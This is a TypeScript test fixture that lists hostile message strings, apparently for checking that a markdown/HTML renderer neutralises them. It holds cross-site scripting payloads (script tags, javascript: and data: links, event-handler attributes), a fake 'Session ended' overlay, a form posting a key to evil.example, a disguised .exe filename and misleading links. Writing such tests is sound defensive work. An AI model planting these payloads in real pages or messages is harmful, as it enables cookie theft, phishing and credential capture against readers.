/** What a message must not be able to do to whoever reads it: markdown and HTML that tries. Each on its own. */
export const HOSTILE_MESSAGES: readonly string[] = [
  'The build says: <script>alert(document.cookie)</script> and then nothing more.',
  'See [the dashboard](javascript:alert(1)), [again](JaVaScRiPt:alert(1)) or [so](\tjavascript:alert(1)).',
  'Screenshot: <img src=x onerror=alert(1)> ![chart](https://tracker.example/pixel.gif?user=1)',
  '[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) <a href="vbscript:msgbox(1)">old</a>',
  '<style>body{display:none}</style><div style="position:fixed;inset:0;background:#fff">Session ended</div>',
  '<iframe src="https://evil.example"></iframe><form action="https://evil.example"><input name=key></form>',
  '"><svg/onload=alert(1)>\n\n<details open ontoggle=alert(1)>\n\n```\n</code></pre><script>alert(1)</script>\n```',
  '![x](x"onerror="alert(1)) <https://example.com/?q=<script>> [a](<javascript:alert(1)>)\n\n[ref]: javascript:alert(1)\n[ref]',
  'Reads backwards: \u202Egnp.exe\u202C, breaks: \u0000\u001b[31m, and is long: ' + 'A'.repeat(400),
  '[https://github.com/acme/web](https://evil.example/acme/web) and https://evil.example@github.com/acme/web',
]
